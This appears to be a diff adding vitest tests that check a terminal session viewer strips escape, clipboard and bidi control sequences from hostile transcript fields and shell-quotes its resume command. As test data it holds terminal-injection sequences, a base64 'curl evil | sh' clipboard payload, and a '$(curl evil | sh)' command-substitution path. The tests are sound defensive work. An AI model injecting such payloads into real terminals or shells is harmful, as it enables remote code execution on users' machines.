@@ -1,11 +1,12 @@
 import { describe, expect, it } from 'vitest';
+import type { Call } from '../../model/calls.js';
 import type { SessionDoc, SessionDocument } from '../../model/document.js';
-import { PLAIN } from '../cli/color.js';
+import { PLAIN, paint } from '../cli/color.js';
 import { width } from '../cli/format.js';
 import { hiddenFromEnv } from './columns.js';
 import { decodeKeys, KeyDecoder } from './keys.js';
 import { notification, WaitWatcher } from './notify.js';
-import { initialView, keyOf, render, type ViewState } from './view.js';
+import { type Detail, initialView, keyOf, PANELS, render, resumeCommand, type ViewState } from './view.js';
 
 const NOW = Date.parse('2026-11-29T12:00:00Z');
 
@@ -136,7 +137,8 @@ describe('notifications', () => {
     // Only the bell and the OSC 9 frame itself are control characters.
     const body = text.slice('\u0007\u001b]9;'.length, -1);
     expect(body).not.toMatch(/[\u0000-\u001f]/);
-    expect(body).toContain('evil ]52;c;AAAA title is waiting for you');
+    // The whole OSC 52 sequence is one mark: its payload is not shown as text either.
+    expect(body).toContain('evil\ufffdtitle is waiting for you');
   });
 });
 
@@ -237,5 +239,147 @@ describe('the screen', () => {
   it('renders a transcript’s control characters as text, not as terminal commands', () => {
     const r = render(state([session('a', { title: 'x\u001b[2Jy' })]), PLAIN, 120, 30, NOW);
     expect(r.lines.join('\n')).not.toContain('\u001b[2J');
+  });
+});
+
+/**
+ * What an agent that read a hostile page can leave in a transcript: OSC 52 (the clipboard), OSC 0
+ * (the window title), CSI (erase the screen), the 8-bit CSI and OSC, and a right-to-left override.
+ */
+const EVIL =
+  '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b]0;pwned\u0007\u001b[2J\u009b2J\u009d0;x\u0007\u202e';
+/** Anything a terminal acts on or hides (ESC included: the test paints no colour). */
+const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
+
+function hostileSession(): SessionDoc {
+  return session(`id${EVIL}`, {
+    project: `/home/u/src/${EVIL}proj`,
+    title: `title${EVIL}`,
+    branch: `br${EVIL}`,
+    file: `/home/u/.claude/projects/${EVIL}/x.jsonl`,
+    model: `claude-${EVIL}`,
+    models: [`claude-${EVIL}`],
+    reasoningEffort: `hi${EVIL}`,
+    permissionMode: `m${EVIL}`,
+    state: 'waiting',
+    stateDetail: `Ask${EVIL}`,
+    pendingTool: `Bash${EVIL}`,
+    running: true,
+    process: { pids: [1], cpu: 1, memory: 1 << 20, command: `claude ${EVIL}` },
+    cost: { ...session('x').cost, unpriced: [`claude-${EVIL}`] },
+  });
+}
+
+function hostileDetail(s: SessionDoc): Detail {
+  const call: Call = {
+    origin: `agent${EVIL}`,
+    name: `Tool${EVIL}`,
+    detail: `/etc/${EVIL}\nnext line`,
+    argument: EVIL,
+    startMs: NOW - 5000,
+    endMs: NOW,
+    result: `out${EVIL}`,
+    failed: true,
+    added: 1,
+    removed: 1,
+    files: [{ path: `/w/${EVIL}`, write: true, added: 1, removed: 1 }],
+    growth: null,
+    shared: false,
+  };
+  return {
+    key: keyOf(s),
+    loading: false,
+    log: { calls: [call], dropped: 0, requests: [], compactions: [], breakdown: null },
+    report: null,
+    conversation: {
+      supported: true,
+      earlier: 0,
+      note: null,
+      turns: [
+        {
+          seq: 0,
+          role: 'assistant',
+          kind: 'message',
+          ts: '',
+          text: `hello${EVIL}\nworld`,
+          clipped: false,
+          tools: [
+            {
+              name: `Tool${EVIL}`,
+              detail: `d${EVIL}`,
+              full: null,
+              result: `r${EVIL}`,
+              failed: false,
+              added: 0,
+              removed: 0,
+              diff: [],
+            },
+          ],
+        },
+      ],
+    },
+    error: null,
+  };
+}
+
+describe('the live table over a hostile transcript', () => {
+  it('draws no escape, C1 or bidi control from any field, in the table or any panel', () => {
+    const s = hostileSession();
+    for (const panel of PANELS) {
+      const v = state([s], { panel, detail: hostileDetail(s) });
+      const lines = render(v, PLAIN, 200, 40, NOW).lines;
+      for (const line of lines) expect(line, `${panel}: ${JSON.stringify(line)}`).not.toMatch(ACTIVE);
+      for (const line of lines) expect(width(line)).toBeLessThanOrEqual(200);
+      expect(lines.join('\n')).toContain('\ufffd');
+    }
+  });
+
+  it('shows the words around a sequence, and the sequence as one mark', () => {
+    const s = hostileSession();
+    const lines = render(state([s], { panel: 'info' }), PLAIN, 200, 40, NOW).lines.join('\n');
+    expect(lines).toContain('title\ufffd\ufffd\ufffd\ufffd\ufffd\ufffd');
+    expect(lines).not.toContain('Y3VybCBldmlsIHwgc2g=');
+    expect(lines).not.toContain('pwned');
+  });
+
+  it('with colour on, lets through only cctop’s own colour codes', () => {
+    const s = hostileSession();
+    const colour = paint(true, {});
+    for (const panel of PANELS) {
+      const lines = render(state([s], { panel, detail: hostileDetail(s) }), colour, 200, 40, NOW).lines;
+      for (const line of lines) {
+        const bare = line.replace(/\u001b\[(?:0|1|2|7|22|27|31|32|33|39)m/g, '');
+        expect(bare, `${panel}: ${JSON.stringify(line)}`).not.toMatch(ACTIVE);
+      }
+    }
+  });
+
+  it('shows a filter typed with control characters as marks', () => {
+    const v = state([session('a')], { filter: `zz${EVIL}`, filtering: true });
+    for (const line of render(v, PLAIN, 120, 30, NOW).lines) expect(line).not.toMatch(ACTIVE);
+  });
+});
+
+describe('the resume command', () => {
+  it('quotes a path that a shell would expand, so pasting it runs nothing', () => {
+    const cmd = resumeCommand(session('abc-123', { project: "/w/$(curl evil | sh)/it's" }))!;
+    expect(cmd).toBe(`cd '/w/$(curl evil | sh)/it'\\''s' && claude --resume abc-123`);
+  });
+
+  it('carries no control character to the clipboard', () => {
+    const cmd = resumeCommand(hostileSession())!;
+    expect(cmd).not.toMatch(ACTIVE);
+    expect(cmd).toMatch(/^cd '.*' && claude --resume 'id.*'$/);
+  });
+
+  it('is not offered for an id that a program would read as a flag', () => {
+    expect(resumeCommand(session('--dangerously-skip-permissions'))).toBeNull();
+    expect(resumeCommand(session('abc', { project: '-rf' }))).toBe('claude --resume abc');
+  });
+
+  it('leaves a plain path and id as they are', () => {
+    expect(resumeCommand(session('abc-123', { project: '/home/u/src/x' }))).toBe(
+      'cd /home/u/src/x && claude --resume abc-123',
+    );
   });
 });
